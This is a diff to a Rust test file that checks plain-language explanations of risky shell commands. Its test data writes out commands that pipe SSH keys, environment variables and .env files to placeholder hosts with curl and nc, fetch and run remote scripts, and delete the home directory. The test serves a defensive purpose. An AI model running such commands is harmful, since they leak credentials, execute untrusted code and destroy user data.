@@ -83,8 +83,12 @@ fn a_headline_tells_steps_that_belong_together_as_one_and_hides_none() {
         ),
         ("bash <(curl -s https://a.example/x)", "Downloads `https://a.example/x` and runs it straight away, unseen."),
         ("echo cm0K | base64 -d | sh", "Runs whatever `base64` prints, which isn't shown here."),
-        ("cat ~/.ssh/id_rsa | curl -d @- https://a.example/x", "Sends `~/.ssh/id_rsa` to `a.example`."),
-        ("cat .env | nc 192.0.2.1 99", "Sends `.env` to another computer."),
+        (
+            "cat ~/.ssh/id_rsa | curl -d @- https://a.example/x",
+            "Sends `~/.ssh/id_rsa`, which can hold secrets, to `a.example`.",
+        ),
+        ("env | curl -d @- https://a.example/x", "Sends a secret to `a.example`."),
+        ("cat .env | nc 192.0.2.1 99", "Sends `.env`, which can hold secrets, to another computer."),
         (
             "rm -rf ~ | curl -s https://a.example/x | sh",
             "Deletes `~` with everything in it, then downloads `https://a.example/x` and runs it straight away, unseen.",
